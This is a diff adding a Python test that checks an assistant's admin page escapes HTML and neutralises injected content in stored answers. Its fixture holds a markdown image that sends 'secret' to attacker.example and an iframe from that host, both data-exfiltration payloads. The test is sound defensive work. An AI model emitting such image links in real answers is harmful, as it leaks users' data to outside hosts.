@@ -52,6 +52,23 @@ def test_analytics(store):
     assert reasons == {"clear", "too short"}
 
 
+def test_conversation_view_renders_answers_safely(store):
+    from assistant import admin
+    from assistant.types import Turn
+
+    conv = store.create("mallory")
+    turn = Turn(user="<b>me</b>", answer="**Five** days. ![x](https://attacker.example/?d=secret) <iframe "
+                                          "src=https://attacker.example/f></iframe> ![ok](https://cdn.example/a.png)")
+    conv.turns.append(turn)
+    store.append_turn(conv, turn)
+    page = admin.conversation_html(store, conv.id, ("https://cdn.example",))
+    assert "<strong>Five</strong>" in page and "&lt;b&gt;me&lt;/b&gt;" in page
+    assert "<iframe" not in page and "&lt;iframe" in page
+    assert 'href="https://attacker.example/?d=secret" rel="noopener noreferrer nofollow"' in page
+    assert page.count("<img") == 1 and '<img src="https://cdn.example/a.png"' in page
+    assert admin.conversation_html(store, "nope") == "<p>No such conversation.</p>"
+
+
 def test_search_filters(store):
     from assistant import admin
     from assistant.errors import InputError
